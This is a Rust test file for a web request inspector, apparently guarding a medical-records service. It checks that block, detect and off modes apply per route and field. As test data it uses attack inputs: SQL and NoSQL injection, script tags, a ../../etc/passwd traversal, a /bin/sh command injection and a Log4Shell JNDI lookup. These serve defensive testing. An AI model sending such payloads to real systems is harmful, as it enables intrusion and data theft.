//! Values under the modes of their routes and fields, and what lies beyond the bounds.

use super::*;
use crate::config::inspection::{Inspection, Mode};
use crate::request::facts::Inspected;

const PROFILE: &str = r#"version = 1
name = "x"
method_override = "none"

[inspect]
mode = "block"
fields = { note = "detect", secret = "off" }

[[route]]
id = "plain"
methods = ["GET"]
path = "/a/{file}"
action = "Read"
section = "notes"

[[route]]
id = "mild"
methods = ["GET"]
path = "/mild"
action = "Read"
section = "notes"
inspect = { mode = "detect", fields = { id = "block", note = "block" } }

[[route]]
id = "form"
methods = ["POST"]
path = "/form"
action = "Create"
section = "notes"
inspect = { body = "form" }

[[route]]
id = "json"
methods = ["POST"]
path = "/json"
action = "Create"
section = "notes"
inspect = { body = "json" }

[[route]]
id = "stream"
methods = ["POST"]
path = "/stream"
action = "Create"
section = "notes"
"#;

const SQL: &str = "'%20OR%201=1--";

/// What was found, and whether it was refused.
async fn inspected(call: Call, emrs: &Emrs) -> (Option<Refusal>, Inspected) {
    match call.map(emrs).await {
        Ok(mapped) => (None, mapped.mapping().inspected.clone()),
        Err(refused) => {
            let mapping = refused.facts().mapping.as_deref().cloned();
            (Some(refused.refusal()), mapping.unwrap().inspected)
        }
    }
}

fn found(inspected: &Inspected) -> Vec<String> {
    let line = |f: &crate::request::facts::Finding| format!("{} {} {}", f.rule, f.field, f.mode);
    inspected.findings.iter().map(line).collect()
}

#[tokio::test]
async fn the_most_specific_mode_counts() {
    let emrs = emrs(PROFILE);
    let blocked = Some(Refusal::ValueBlocked);
    for (target, refusal, findings) in [
        (
            format!("/a/x?q={SQL}"),
            blocked,
            "sql-breakout query:q block",
        ),
        (
            format!("/a/x?note={SQL}"),
            None,
            "sql-breakout query:note detect",
        ),
        (format!("/a/x?secret={SQL}"), None, ""),
        (
            format!("/mild?q={SQL}"),
            None,
            "sql-breakout query:q detect",
        ),
        (
            format!("/mild?id={SQL}"),
            blocked,
            "sql-breakout query:id block",
        ),
        (
            format!("/mild?note={SQL}"),
            blocked,
            "sql-breakout query:note block",
        ),
        (
            format!("/mild?ID={SQL}"),
            blocked,
            "sql-breakout query:ID block",
        ),
        (
            format!("/mild?id[]={SQL}"),
            blocked,
            "sql-breakout query:? block",
        ),
        (format!("/a/{SQL}"), blocked, "sql-breakout path:file block"),
        (
            "/a/x?q[$ne]=1".into(),
            blocked,
            "sql-operator query:? block",
        ),
        (
            "/a/x?q=%253Cscript%253E".into(),
            blocked,
            "xss-tag query:q block",
        ),
        ("/a/x?q=O%27Brien&p=%3C3+mg".into(), None, ""),
        (
            format!("/unknown?q={SQL}"),
            blocked,
            "sql-breakout query:q block",
        ),
    ] {
        let (refused, inspected) = inspected(Call::get(&target), &emrs).await;
        assert_eq!(refused, refusal, "{target}: {inspected:?}");
        let lines = found(&inspected);
        let first = lines.iter().find(|line| !line.starts_with("sql-comment"));
        assert_eq!(first.map_or("", String::as_str), findings, "{target}");
    }
    assert_eq!(emrs.inspection_counts().0, 9);
}

#[tokio::test]
async fn bodies_that_are_read_are_looked_into() {
    let emrs = emrs(PROFILE);
    let blocked = Some(Refusal::ValueBlocked);
    let form = |body: &str| Call::new("POST", "/form").form(body);
    assert_eq!(form("a=1&b=x%0A/bin/sh").refusal(&emrs).await, blocked);
    let (refused, seen) = inspected(form("note=%3Cscript%3E"), &emrs).await;
    assert_eq!(
        (refused, found(&seen)),
        (None, vec!["xss-tag form:note detect".to_owned()])
    );
    let json = |body: &str| Call::new("POST", "/json").json(body);
    let deep = r#"{"a":[{"b":["../../etc/passwd"]}],"note":["<script>"]}"#;
    let (refused, seen) = inspected(json(deep), &emrs).await;
    assert_eq!(refused, blocked);
    assert_eq!(
        found(&seen)[..2],
        ["path-parent json:b block", "path-file json:b block"]
    );
    assert_eq!(
        json(r#"{"user":{"$ne":null}}"#).refusal(&emrs).await,
        blocked
    );
    assert_eq!(json(r#"{"a":4,"b":"x"}"#).refusal(&emrs).await, None);
    // What is said to be a form and is none is not waved through.
    let multipart = Call::new("POST", "/form").body("multipart/form-data; boundary=x", "--x--");
    assert_eq!(
        multipart.refusal(&emrs).await,
        Some(Refusal::UnsupportedBody)
    );
    let streamed = Call::new("POST", "/stream").form("a=<script>");
    assert_eq!(
        inspected(streamed, &emrs).await,
        (None, Inspected::default())
    );
}

#[tokio::test]
async fn headers_are_looked_at_for_lookups() {
    let emrs = emrs(PROFILE);
    let lookup = Call::get("/a/x").header("user-agent", "${${lower:j}ndi:ldap://x.example}");
    let (refused, seen) = inspected(lookup, &emrs).await;
    assert_eq!(refused, Some(Refusal::ValueBlocked));
    assert!(
        seen.findings
            .iter()
            .all(|f| f.class == "lookup" && f.field == "header:user-agent")
    );
    let other = Call::get("/a/x").header("referer", "https://emr.test/x?q=<script>' or 1=1--");
    assert_eq!(other.refusal(&emrs).await, None);
}

#[tokio::test]
async fn beyond_the_bounds_block_refuses_and_detect_counts() {
    let bounds = Inspection {
        max_values: 4,
        max_value_bytes: 64,
        max_bytes: 200,
        ..Inspection::default()
    };
    let emrs = emrs(PROFILE).inspecting(bounds);
    let long = "a".repeat(65);
    for (target, refusal, beyond) in [
        (format!("/a/x?q={long}"), Some(Refusal::Uninspectable), 1),
        (format!("/a/x?note={long}"), None, 1),
        (format!("/a/x?secret={long}"), None, 0),
        ("/mild?a=1&b=2&c=3".into(), None, 3),
        ("/a/x?a=1&b=2".into(), Some(Refusal::Uninspectable), 2),
        (
            format!("/a/x?note={long}{SQL}&q={SQL}"),
            Some(Refusal::Uninspectable),
            3,
        ),
    ] {
        let (refused, seen) = inspected(Call::get(&target), &emrs).await;
        assert_eq!(
            (refused, seen.beyond),
            (refusal, beyond),
            "{target}: {seen:?}"
        );
    }
}

#[tokio::test]
async fn the_operator_can_hold_every_mode_down() {
    for (at_most, refusal, count) in [
        (Mode::Block, Some(Refusal::ValueBlocked), 2),
        (Mode::Detect, None, 2),
        (Mode::Off, None, 0),
    ] {
        let emrs = emrs(PROFILE).inspecting(Inspection {
            at_most,
            ..Inspection::default()
        });
        let (refused, seen) = inspected(Call::get(&format!("/a/x?q={SQL}")), &emrs).await;
        assert_eq!(
            (refused, seen.findings.len()),
            (refusal, count),
            "{at_most:?}: {seen:?}"
        );
    }
}

#[tokio::test]
async fn a_record_holds_at_most_so_many_findings_and_no_value() {
    let emrs = emrs(PROFILE);
    let many: Vec<String> = (0..100).map(|n| format!("f{n}=SECRETVALUE{SQL}")).collect();
    let (refused, seen) = inspected(Call::get(&format!("/a/x?{}", many.join("&"))), &emrs).await;
    assert_eq!(refused, Some(Refusal::ValueBlocked));
    assert_eq!(seen.findings.len(), Inspected::MOST);
    assert!(!format!("{seen:?}").contains("SECRETVALUE"));
}

#[test]
fn records_without_findings_read_and_stay_as_they_were() {
    let old = r#"{"route":"r","action":"Read","section":"notes","sensitivity":"N"}"#;
    let mapping: crate::request::facts::Mapping = serde_json::from_str(old).unwrap();
    assert!(mapping.inspected.is_empty());
    assert_eq!(serde_json::to_string(&mapping).unwrap(), old);
}
